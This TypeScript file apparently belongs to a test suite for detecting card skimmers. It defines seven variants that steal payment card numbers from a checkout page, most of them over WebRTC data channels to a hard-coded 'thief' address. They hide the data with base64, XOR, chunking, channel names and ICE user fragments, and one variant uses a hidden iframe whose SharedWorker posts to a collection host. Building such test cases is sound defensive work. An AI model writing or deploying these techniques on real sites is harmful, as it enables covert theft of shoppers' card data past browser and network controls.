import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

const THIEF = '203.0.113.77';
const ANSWER = (ufrag = `'abcdefgh'`) =>
  `({ type: 'answer', sdp: ['v=0','o=- 1 2 IN IP4 127.0.0.1','s=-','t=0 0','a=group:BUNDLE 0','m=application 3479 UDP/DTLS/SCTP webrtc-datachannel','c=IN IP4 ${THIEF}','a=candidate:1 1 udp 2113937151 ${THIEF} 3479 typ host','a=ice-ufrag:' + ${ufrag},'a=ice-pwd:abcdefghijklmnopqrstuvwx','a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'),'a=setup:passive','a=mid:0','a=sctp-port:5000',''].join('\\r\\n') })`;
const CONNECT = `pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => pc.setRemoteDescription(${ANSWER()})).catch(() => 0);`;
const wrap = (honest: boolean, body: string) =>
  `(() => { ${takeCode(honest)} const D = () => JSON.stringify(take()); ${body} ${ON_PAY} })();`;
const named = () => THIEF;

/** Ways past the page: direct connections from browser to browser, past proxies and rules for what a page may load, and workers of frames. The twins are a help by video and voice. */
export const peers: readonly SkimmerVariant[] = [
  {
    id: 'peer-once-open',
    idea: 'over a direct connection, once it is open, written in base64',
    takes: ['card'],
    named,
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:relay.help.example:3478', username: 'u', credential: 'p' }] }); const ch = pc.createDataChannel('help'); let up = false; const q = []; ch.onopen = () => { up = true; for (const m of q) ch.send(m); }; ${CONNECT} function send() { const m = btoa(D()); if (up && ch.readyState === 'open') ch.send(m); else q.push(m); }`,
      ),
    }),
  },
  {
    id: 'peer-bytes',
    idea: 'as bytes, exclusive-or with a key, over a direct connection that an empty frame opens',
    takes: ['card'],
    named,
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `const f = document.createElement('iframe'); f.style.display = 'none'; document.body.append(f); const pc = new f.contentWindow.RTCPeerConnection(); const ch = pc.createDataChannel('x', { ordered: false }); ${CONNECT} function send() { const m = D(); const b = new Uint8Array(m.length); for (let i = 0; i < m.length; i += 1) b[i] = m.charCodeAt(i) ^ 'k3y!'.charCodeAt(i % 4); try { ch.send(b.buffer); } catch {} }`,
      ),
    }),
  },
  {
    id: 'peer-on-phones',
    idea: 'over a direct connection, on phones only, in pieces',
    takes: ['card'],
    named,
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `let ch; if (/Mobile/.test(navigator.userAgent)) { const pc = new RTCPeerConnection(); ch = pc.createDataChannel('m'); ${CONNECT} } function send() { const n = take().n; if (ch) for (let at = 0; at < n.length; at += 4) ch.send(JSON.stringify({ n: at / 4, p: n.slice(at, at + 4) })); }`,
      ),
    }),
  },
  {
    id: 'peer-blob',
    idea: 'as a file, handed to a direct connection',
    takes: ['card'],
    named,
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `const pc = new RTCPeerConnection(); const ch = pc.createDataChannel('files'); ${CONNECT} function send() { try { ch.send(new Blob([[...D()].reverse().join('')])); } catch {} }`,
      ),
    }),
  },
  {
    id: 'peer-label',
    idea: 'in the name of a channel of a direct connection',
    takes: ['card'],
    named,
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `const pc = new RTCPeerConnection(); pc.createDataChannel('chat'); ${CONNECT} function send() { pc.createDataChannel('c-' + btoa(take().n)); }`,
      ),
    }),
  },
  {
    id: 'peer-user-fragment',
    idea: 'as the user’s name that a direct connection greets its other end with',
    takes: ['card'],
    named,
    build: (_hosts, honest) => ({
      script: wrap(
        honest,
        `function send() { const pc = new RTCPeerConnection(); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)).then(() => pc.setRemoteDescription(${ANSWER(`[...take().n].map((c) => c.charCodeAt(0).toString(16)).join('')`)})).catch(() => 0); }`,
      ),
    }),
  },
  {
    id: 'frame-with-worker',
    idea: 'a shared worker of a hidden frame of somebody else sends it on',
    takes: ['card'],
    build: ({ collect, cdn }, honest) => ({
      files: {
        '/shared.js': {
          type: 'text/javascript',
          body: `onconnect = (c) => { c.ports[0].onmessage = (e) => fetch('${collect}/sh', { method: 'POST', mode: 'no-cors', body: e.data }); };`,
        },
        '/help.html': {
          type: 'text/html',
          body: `<!doctype html><script>const w = new SharedWorker('shared.js'); w.port.start(); addEventListener('message', (e) => w.port.postMessage(e.data));</script>`,
        },
      },
      script: wrap(
        honest,
        `const f = document.createElement('iframe'); f.src = '${cdn}/help.html'; f.style.display = 'none'; document.body.append(f); function send() { f.contentWindow.postMessage(btoa(D()), '*'); }`,
      ),
    }),
  },
];
